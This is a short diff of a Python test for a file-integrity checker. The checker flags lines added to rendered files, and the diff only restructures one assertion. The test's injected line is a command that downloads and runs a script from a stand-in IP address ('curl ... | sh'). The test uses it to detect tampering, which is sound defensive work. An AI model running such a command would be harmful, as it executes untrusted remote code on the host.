@@ -112,8 +112,8 @@ def test_catalogue_a_line_added_to_any_rendered_file_is_named(ring_doc, tmp_path
     path.write_text("\n".join(lines) + "\n")
     write_manifest(out)
     problems = check_exact(out).problems
-    assert problems == [f"{rel}:2: foreign line (render does not write it for this plan): "
-                        "'curl http://203.0.113.9/x | sh'"]
+    expected = f"{rel}:2: foreign line (render does not write it for this plan): 'curl http://203.0.113.9/x | sh'"
+    assert problems == [expected]
 
 
 def test_a_removed_line_a_foreign_file_and_a_mode_change_are_named(ring_doc, tmp_path: Path) -> None:
